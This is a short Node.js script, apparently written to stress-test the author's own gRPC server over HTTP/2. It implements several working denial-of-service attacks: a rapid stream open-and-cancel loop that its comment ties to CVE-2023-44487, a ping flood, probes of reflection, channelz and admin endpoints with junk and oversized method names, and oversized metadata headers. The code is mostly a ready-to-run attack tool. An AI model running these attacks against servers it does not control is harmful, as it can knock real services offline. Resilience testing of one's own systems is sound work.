// An HTTP/2 client of its own that misbehaves: node attack.mjs HOST:PORT WHAT COUNT [TOKEN]. Prints JSON of what it met.
import http2 from "node:http2";

const [address, what, count, token] = process.argv.slice(2);
const times = Number(count);
const seen = { ok: 0, refused: 0, codes: {}, errors: {}, goaway: [] };
const add = (where, key) => (where[key] = (where[key] || 0) + 1);

function connect() {
  return new Promise((done) => {
    const session = http2.connect(`http://${address}`);
    session.on("goaway", (code, last, data) => seen.goaway.push(`${code} ${data ? data.toString() : ""}`));
    session.on("error", (error) => add(seen.errors, error.code || error.message));
    session.on("connect", () => done(session));
    session.on("close", () => done(session));
  });
}

function call(session, path, more = {}) {
  const headers = { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers", ...more };
  if (token) headers.authorization = `Bearer ${token}`;
  return session.request(headers);
}

function ended(stream, body) {
  return new Promise((done) => {
    let status;
    stream.on("response", (headers) => (status = headers["grpc-status"] ?? status));
    stream.on("trailers", (headers) => (status = headers["grpc-status"] ?? status));
    stream.on("error", (error) => add(seen.errors, error.code || error.message));
    stream.on("close", () => { add(seen.codes, status ?? `none rst ${stream.rstCode}`); done(); });
    stream.on("data", () => {});
    stream.end(body);
  });
}

const empty = Buffer.alloc(5);
const pause = (ms) => new Promise((done) => setTimeout(done, ms));

const attacks = {
  // opens and cancels at once, as CVE-2023-44487
  async reset() {
    let session = await connect();
    for (let made = 0; made < times; made++) {
      if (session.closed || session.destroyed) { session = await connect(); seen.refused++; }
      try {
        const stream = call(session, "/bedplate.api.v1.Live/Subscribe");
        stream.on("error", () => {});
        stream.write(empty);
        stream.close(http2.constants.NGHTTP2_CANCEL);
        seen.ok++;
      } catch (error) { add(seen.errors, error.code || error.message); }
      if (made % 20 === 19) await pause(20);
    }
    session.destroy();
  },
  async ping() {
    const session = await connect();
    for (let made = 0; made < times && !session.destroyed; made++) {
      session.ping(() => {});
      if (made % 50 === 49) await pause(5);
    }
    await pause(500);
    session.destroy();
  },
  async names() {
    const session = await connect();
    for (const path of ["/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
      "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", "/grpc.channelz.v1.Channelz/GetServers",
      "/bedplate.api.v1.Admin/Nothing", "/no.such.Service/\n\x1b[2J", "nothing"])
      await ended(call(session, path.replace(/[\x00-\x1f]/g, "")), empty);
    for (let made = 0; made < times; made++)
      await ended(call(await connect(), `/no.such.Service/${"N".repeat(100_000)}`), empty);
    session.destroy();
  },
  async metadata() {
    await ended(call(await connect(), "/bedplate.api.v1.Access/WhoAmI", { "x-much": "m".repeat(times * 1024) }), empty);
  },
};

await attacks[what]();
console.log(JSON.stringify(seen));
process.exit(0);
